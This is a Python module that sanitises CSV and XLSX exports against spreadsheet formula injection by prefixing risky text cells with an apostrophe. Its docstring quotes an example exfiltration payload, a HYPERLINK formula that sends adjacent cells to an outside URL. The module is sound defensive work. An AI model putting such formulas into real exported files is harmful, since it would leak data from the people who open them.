"""Cells a spreadsheet opens safely: every CSV (and any XLSX) Urna writes goes through here.

A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which
some spreadsheets skip before reading one of those) is run as a formula by Excel, LibreOffice
and Google Sheets: a contribution reading ``=HYPERLINK("https://…?"&A1; "Clic")`` would send the
neighbouring cells to whoever wrote it when a civil servant clicks. OWASP's remedy ("CSV
Injection") is applied: such text gets a leading apostrophe, which spreadsheets show as text.

Only text is touched. Numbers stay numbers (a negative count is still ``-5``), so writers pass
the positions of their text columns and open data keeps validating against its Table Schema.
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator, Sequence
from typing import Any

FORMULA_TRIGGERS = frozenset("=+-@\t\r")
# A byte-order mark makes Excel read a CSV as UTF-8 (accents); machines are better without it.
UTF8_BOM = "\ufeff"


def formula_safe(value: Any) -> Any:
    """The value, with a leading apostrophe if it is text a spreadsheet would run."""
    if isinstance(value, str) and value and value[0] in FORMULA_TRIGGERS:
        return "'" + value
    return value


def formula_safe_rows(
    rows: Iterable[Sequence[Any]], text_columns: Sequence[int]
) -> Iterator[Sequence[Any]]:
    """The rows, with the text columns at ``text_columns`` made safe; a row is copied only
    when one of its cells needs it (rarely), so a million-row export pays one check per cell."""
    columns = tuple(text_columns)
    triggers = FORMULA_TRIGGERS
    for row in rows:
        for i in columns:
            value = row[i]
            if value and isinstance(value, str) and value[0] in triggers:
                row = [formula_safe(v) if j in columns else v for j, v in enumerate(row)]
                break
        yield row
